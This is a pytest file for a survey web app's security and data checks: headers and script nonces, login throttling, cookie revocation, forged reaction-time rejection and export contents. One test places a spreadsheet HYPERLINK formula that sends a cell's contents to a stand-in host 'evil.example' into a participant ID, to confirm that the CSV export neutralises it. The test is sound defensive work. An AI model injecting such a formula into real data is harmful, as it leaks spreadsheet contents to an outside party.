"""Response headers, 405 answers and CSV exports as an attacker or a spreadsheet would see them."""
from __future__ import annotations

import csv
import io
import re

import pandas as pd
from sqlalchemy import select

from survey_app.models import Participant
from survey_helpers import ADMIN_PASSWORD, csrf_from, human_session


def test_every_page_carries_the_security_headers_and_scripts_run_only_by_nonce(client):
    for path in ("/", "/stimuli/" + "0" * 64 + ".png", "/admin/login"):
        r = client.get(path)
        assert r.headers["X-Content-Type-Options"] == "nosniff" and r.headers["X-Frame-Options"] == "DENY"
        assert r.headers["Referrer-Policy"] == "no-referrer"
        csp = dict(part.strip().split(" ", 1) for part in r.headers["Content-Security-Policy"].split(";"))
        assert "'unsafe-inline'" not in csp["script-src"] and csp["frame-ancestors"] == "'none'"
    page = client.get("/")
    nonce = re.search(r"'nonce-([^']+)'", page.headers["Content-Security-Policy"]).group(1)
    inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", page.text)
    assert inline and all(f'nonce="{nonce}"' in attrs for attrs in inline)
    assert nonce not in client.get("/").headers["Content-Security-Policy"]       # a fresh nonce per response


def test_a_wrong_method_gets_405_with_allow(client):
    r = client.put("/consent")
    assert r.status_code == 405 and "POST" in r.headers["Allow"]
    r = client.delete("/api/sessions")
    assert r.status_code == 405 and r.headers["Allow"] and r.is_json


def test_a_formula_in_a_prolific_id_is_neutralised_in_the_csv_export(app, client):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    human_session(client, PROLIFIC_PID=evil, STUDY_ID="s1", SESSION_ID="x1")
    admin = app.test_client()
    token = csrf_from(admin.get("/admin/login").text)
    assert admin.post("/admin/login", data={"csrf_token": token, "password": ADMIN_PASSWORD}).status_code == 302
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/export/participants.csv").text)))
    ids = [row["external_id"] for row in rows if row["external_id"]]
    assert ids == ["'" + evil]
    parquet = admin.get("/admin/export/participants.parquet")
    import pandas as pd
    assert evil in set(pd.read_parquet(io.BytesIO(parquet.data))["external_id"])     # the data itself unchanged


def _login(client, password, address="127.0.0.1"):
    where = {"REMOTE_ADDR": address}
    token = csrf_from(client.get("/admin/login", environ_base=where).text)
    return client.post("/admin/login", data={"csrf_token": token, "password": password}, environ_base=where)


def test_wrong_passwords_are_throttled_for_every_worker(make_app):
    app = make_app()
    client = app.test_client()
    codes = [_login(client, "wrong").status_code for _ in range(6)]
    assert codes == [401] * 5 + [429]
    other_worker = create_app_like(app)         # a second app on the same database: the same count
    r = _login(other_worker.test_client(), ADMIN_PASSWORD)
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    assert _login(app.test_client(), ADMIN_PASSWORD, address="10.0.0.9").status_code == 302


def create_app_like(app):
    from survey_app import create_app
    from survey_helpers import API_TOKEN
    return create_app({"RUN_DIR": str(app.config["RUN_DIR"]), "DATABASE_URL": app.config["DATABASE"],
                       "TESTING": True, "API_TOKEN": API_TOKEN, "ADMIN_PASSWORD": ADMIN_PASSWORD})


def test_logging_out_revokes_a_copied_admin_cookie(app):
    browser = app.test_client()
    assert _login(browser, ADMIN_PASSWORD).status_code == 302
    cookie = browser.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    assert thief.get("/admin/").status_code == 200
    token = csrf_from(browser.get("/admin/").text)
    assert browser.post("/admin/logout", data={"csrf_token": token}).status_code == 302
    assert thief.get("/admin/").status_code == 302 and browser.get("/admin/").status_code == 302


def test_cookies_can_be_marked_secure_behind_a_tls_proxy(make_app):
    app = make_app(secure_cookies=True, proxy_hops=1)
    client = app.test_client()
    r = client.get("/admin/login", headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.5"})
    assert "Secure" in r.headers.get("Set-Cookie", "") and "HttpOnly" in r.headers["Set-Cookie"]


def test_the_server_clock_refuses_a_forged_reaction_time(make_app):
    """An answer claiming 1600 ms sent at once, or claiming more time than has passed, gets 422 and
    stores nothing; the same answer once the time has really passed is saved."""
    import datetime as dt

    from sqlalchemy import func, select

    from survey_app.models import Response, Trial

    app = make_app(check_server_time=True)
    client = app.test_client()
    sid = human_session(client)
    with client.session_transaction() as s:
        csrf = s["csrf"]
    state = client.get(f"/api/sessions/{sid}").json
    body = {"trial": state["trial"]["id"], "choice": "upper", "confidence": 1, "rt_ms": 1600, "key": "forged-rt-key-1"}
    post = lambda b: client.post(f"/api/sessions/{sid}/responses", json=b, headers={"X-CSRF-Token": csrf})  # noqa: E731
    r = post(body)
    assert r.status_code == 422 and "after the trial was served" in r.json["error"]

    def age_trial(seconds):
        with app.config["SESSIONS"].begin() as s:
            trial = s.scalars(select(Trial).where(Trial.public_id == body["trial"])).one()
            trial.served_at -= dt.timedelta(seconds=seconds)
    age_trial(2)
    r = post({**body, "rt_ms": 9000})
    assert r.status_code == 422 and "longer than" in r.json["error"]
    with app.config["SESSIONS"]() as s:
        assert s.scalar(select(func.count(Response.id))) == 0
    assert post(body).status_code == 200


def test_events_and_participant_fields_are_exported_and_bad_event_payloads_refused(app, client):
    sid = human_session(client, PROLIFIC_PID="p-9", STUDY_ID="study-7", SESSION_ID="sess-3")
    with client.session_transaction() as s:
        csrf = s["csrf"]
    post = lambda body: client.post(f"/api/sessions/{sid}/events", json=body,  # noqa: E731
                                    headers={"X-CSRF-Token": csrf})
    assert post({"events": [{"kind": "blur", "t": 12.5}, {"kind": "fullscreen_exit", "t": 30,
                                                           "detail": {"w": 1280}}]}).status_code in (200, 201)
    for bad in ({"events": [{"kind": "blur", "t": float("nan")}]},
                {"events": [{"kind": "blur", "t": float("inf")}]},
                {"events": [{"kind": "note", "t": 1, "detail": "x" * 5000}]}):
        r = client.post(f"/api/sessions/{sid}/events", data=__import__("json").dumps(bad),
                        content_type="application/json", headers={"X-CSRF-Token": csrf})
        assert r.status_code == 400, bad
    admin = app.test_client()
    token = csrf_from(admin.get("/admin/login").text)
    admin.post("/admin/login", data={"csrf_token": token, "password": ADMIN_PASSWORD})
    events = list(csv.DictReader(io.StringIO(admin.get("/admin/export/events.csv").text)))
    assert [(e["kind"], e["client_ms"]) for e in events] == [("blur", "12.5"), ("fullscreen_exit", "30.0")]
    people = list(csv.DictReader(io.StringIO(admin.get("/admin/export/participants.csv").text)))
    person = [p for p in people if p["external_id"] == "p-9"][0]
    assert person["prolific_study_id"] == "study-7" and person["prolific_session_id"] == "sess-3"
    assert person["window"] == "1280x900" and person["user_agent"] and person["instruction_s"] != ""
    with app.config["SESSIONS"]() as s:          # the assignment seed, to rebuild a trial list
        stored_seed = s.scalars(select(Participant.seed).where(Participant.external_id == "p-9")).one()
    assert person["seed"] == str(stored_seed)
    declines = admin.get("/admin/export/declines.csv")
    header = "study,external_id,created_at,participant,participant_stage"
    assert declines.status_code == 200 and declines.text.splitlines()[0] == header
    assert 'id="declined">0<' in admin.get("/admin/").text


def test_time_under_an_overlay_does_not_count_as_seen_and_a_restarted_trial_is_flagged(make_app):
    """A trial covered by an overlay (full-screen prompt, a window too small) or a hidden page is not seen: the
    minimum response time counts ``rt_ms − hidden_ms``; a bad ``hidden_ms`` is refused and changes nothing; a
    trial served again while open (a reload, a second tab) carries its serving count into the export."""
    from sqlalchemy import func, select

    from survey_app.export import responses_frame
    from survey_app.models import Response

    app = make_app(min_response_ms=1500)
    client = app.test_client()
    sid = human_session(client)
    with client.session_transaction() as s:
        csrf = s["csrf"]
    state = client.get(f"/api/sessions/{sid}").json
    client.get(f"/api/sessions/{sid}")                                  # a reload: the same trial served again
    body = {"trial": state["trial"]["id"], "choice": "upper", "confidence": 1, "rt_ms": 3000, "key": "hidden-key-01"}
    post = lambda b: client.post(f"/api/sessions/{sid}/responses", json=b, headers={"X-CSRF-Token": csrf})  # noqa: E731
    r = post({**body, "hidden_ms": 2000})                               # seen for 1000 ms only
    assert r.status_code == 422 and "1500 ms on screen" in r.json["error"]
    for bad in (-1, 3000.5, True, "2000"):
        r = post({**body, "hidden_ms": bad})
        assert r.status_code == 422 and "hidden_ms" in r.json["error"], bad
    with app.config["SESSIONS"]() as s:
        assert s.scalar(select(func.count(Response.id))) == 0
    assert post({**body, "hidden_ms": 1200.5}).status_code == 200
    row = responses_frame(app.config["SESSIONS"]).iloc[0]
    assert row["rt_ms"] == 3000 and row["hidden_ms"] == 1200.5 and row["serves"] == 2
    following = client.get(f"/api/sessions/{sid}").json["trial"]["id"]
    r = post({**body, "trial": following, "key": "hidden-key-02"})      # an older page: no hidden_ms
    assert r.status_code == 200
    last = responses_frame(app.config["SESSIONS"]).iloc[-1]
    assert pd.isna(last["hidden_ms"]) and last["serves"] == 1
